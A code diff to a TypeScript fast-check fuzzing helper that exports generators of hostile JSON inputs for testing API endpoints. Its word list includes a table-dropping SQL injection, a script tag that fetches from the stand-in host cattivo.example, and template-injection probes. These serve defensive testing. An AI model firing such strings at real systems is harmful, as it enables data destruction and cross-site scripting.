@@ -12,7 +12,7 @@ export interface HostileInput {
 }
 
 /** Words that mean something to somebody further in: a database, a browser, a shell, a template, a path, a spreadsheet. */
-const words = fc.constantFrom(
+export const hostileWords = fc.constantFrom(
   "' or 1=1; drop table events; --",
   '"><script>fetch("//cattivo.example")</script>',
   '${7*7} {{7*7}} #{7*7} <%= 7*7 %>',
@@ -33,11 +33,11 @@ const words = fc.constantFrom(
   '26-0001',
 )
 const numbers = fc.constantFrom(-1, 0, 1e308, -0, 2 ** 53, Number.MAX_SAFE_INTEGER, 0.1, 2 ** 31)
-const leaf = fc.oneof(words, numbers, fc.string(), fc.constantFrom(null, true, false), fc.uuid())
-const anything = fc.oneof(
+const leaf = fc.oneof(hostileWords, numbers, fc.string(), fc.constantFrom(null, true, false), fc.uuid())
+export const hostileJson = fc.oneof(
   leaf,
   fc.array(leaf, { maxLength: 5 }),
-  fc.dictionary(fc.oneof(fc.string(), words), leaf, { maxKeys: 5 }),
+  fc.dictionary(fc.oneof(fc.string(), hostileWords), leaf, { maxKeys: 5 }),
   fc.jsonValue(),
 )
 
@@ -49,7 +49,7 @@ export function hostileInput(endpoint: Endpoint, known: Readonly<Record<string, 
     fields.length === 0
       ? fc.constant({ nessuno: 1 } as unknown)
       : fc
-          .array(fc.tuple(fc.constantFrom(...fields), anything), { minLength: 1, maxLength: 3 })
+          .array(fc.tuple(fc.constantFrom(...fields), hostileJson), { minLength: 1, maxLength: 3 })
           .map((changes) => changes.reduce((so, [{ path }, value]) => change(so, path, value), valid()))
   const taken =
     fields.length === 0
@@ -65,7 +65,7 @@ export function hostileInput(endpoint: Endpoint, known: Readonly<Record<string, 
   const json = fc.oneof(
     { weight: 4, arbitrary: nearlyValid },
     { weight: 4, arbitrary: taken },
-    { weight: 1, arbitrary: anything },
+    { weight: 1, arbitrary: hostileJson },
   )
   const bytes = fc.oneof(
     { weight: 12, arbitrary: json.map((value) => Buffer.from(JSON.stringify(value) ?? '')) },
@@ -83,7 +83,7 @@ export function hostileInput(endpoint: Endpoint, known: Readonly<Record<string, 
       ...names.map(() =>
         fc.oneof(
           { weight: 5, arbitrary: fc.constant(undefined) },
-          { weight: 1, arbitrary: fc.oneof(words, fc.uuid()) },
+          { weight: 1, arbitrary: fc.oneof(hostileWords, fc.uuid()) },
         ),
       ),
     )
